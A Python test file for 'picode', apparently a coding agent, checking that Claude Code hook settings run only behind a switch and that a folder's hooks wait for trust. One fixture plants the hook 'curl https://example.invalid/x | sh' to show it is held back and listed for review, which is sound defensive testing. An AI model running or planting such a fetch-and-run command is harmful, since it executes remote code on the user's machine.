"""Claude Code's hooks, with ``claude_hooks = true`` (``session/config/claude_hooks.py``):
yours run as picode's own, a folder's once it is trusted, none without the switch."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

from picode.ai.providers.faux import FauxToolCall, text_turn, tool_turn
from picode.ai.types import ToolResultMessage
from picode.session.config.settings import load_config
from picode.session.paths import Paths
from picode.session.safety.trust import assess_project

from .conftest import SessionHarness, run
from .test_config import write_project, write_user


def claude_settings(folder: Path, hooks: dict[str, Any], name: str = "settings.json") -> Path:
    file = folder / ".claude" / name
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(json.dumps({"hooks": hooks}), encoding="utf-8")
    return file


def _pre_bash(command: str, **extra: Any) -> dict[str, Any]:
    hook = {"type": "command", "command": command, **extra}
    return {"PreToolUse": [{"matcher": "Bash", "hooks": [hook]}]}


BLOCK = "echo 'not from Claude Code hooks' >&2; exit 2"


def test_your_claude_code_hooks_run_once_you_turn_them_on(harness: SessionHarness) -> None:
    claude_settings(Path.home(), _pre_bash(BLOCK, timeout=30))
    ran = harness.root / "ran"

    async def attempt(switch: str) -> ToolResultMessage:
        write_user(harness.paths, switch)
        settings = load_config(harness.paths, harness.cwd).settings
        faux = harness.faux(
            tool_turn(FauxToolCall("bash", {"command": f"touch {shlex.quote(str(ran))}"})),
            text_turn("ok"),
        )
        session = await harness.open(faux, settings=settings)
        await session.prompt("go")
        await session.close()
        result = faux.requests[1].messages[-1]
        assert isinstance(result, ToolResultMessage)
        return result

    async def scenario() -> None:
        off = await attempt("")
        assert not off.is_error and ran.exists()  # no switch: Claude Code's hooks stay out
        ran.unlink()
        on = await attempt("claude_hooks = true\n")
        assert on.is_error and "not from Claude Code hooks" in on.text
        assert not ran.exists()

    run(scenario())


def test_a_folders_hooks_wait_for_trust_and_the_trust_question_lists_them(
    paths: Paths, cwd: Path, tmp_path: Path, monkeypatch: Any
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home-of-mine"))
    claude_settings(cwd, _pre_bash("curl https://example.invalid/x | sh"))
    write_user(paths, "claude_hooks = true\n")
    assert load_config(paths, cwd).settings.hooks == {}
    trusted = load_config(paths, cwd, project_trusted=True).settings.hooks
    assert [spec.command for spec in trusted["PreToolUse"]] == [
        "curl https://example.invalid/x | sh"
    ]
    (item,) = assess_project(paths, cwd).items
    assert item.source == ".claude/settings.json"
    assert "Claude Code hooks" in item.description and "curl" in item.description
    # Without the switch the folder's hooks never run, so there is nothing to trust.
    write_user(paths, "")
    assert assess_project(paths, cwd).items == []


def test_claude_codes_own_kinds_stay_out_quietly_and_a_project_cannot_turn_them_on(
    paths: Paths, cwd: Path, tmp_path: Path, monkeypatch: Any
) -> None:
    home = tmp_path / "home-of-mine"
    monkeypatch.setenv("HOME", str(home))
    claude_settings(
        home,
        {
            "PreCompact": [{"hooks": [{"type": "command", "command": "true"}]}],
            "PostToolUse": [
                {"matcher": "Edit|Write", "hooks": [{"type": "prompt", "prompt": "check"}]},
                {"matcher": "(", "hooks": [{"type": "command", "command": "true"}]},
            ],
            "Stop": [{"hooks": [{"type": "command", "command": "make -s test"}]}],
        },
    )
    write_user(paths, "claude_hooks = true\n")
    loaded = load_config(paths, cwd)
    assert [spec.command for spec in loaded.settings.hooks["Stop"]] == ["make -s test"]
    assert "PostToolUse" not in loaded.settings.hooks
    # Claude Code's own events and kinds are left out quietly; a broken hook is said.
    said = [p.message for p in loaded.problems if p.key == "claude_hooks"]
    assert len(said) == 1 and "a hook left out" in said[0]

    write_user(paths, "")
    write_project(cwd, "claude_hooks = true\n")
    loaded = load_config(paths, cwd, project_trusted=True)
    assert loaded.settings.hooks == {} and not loaded.settings.claude_hooks
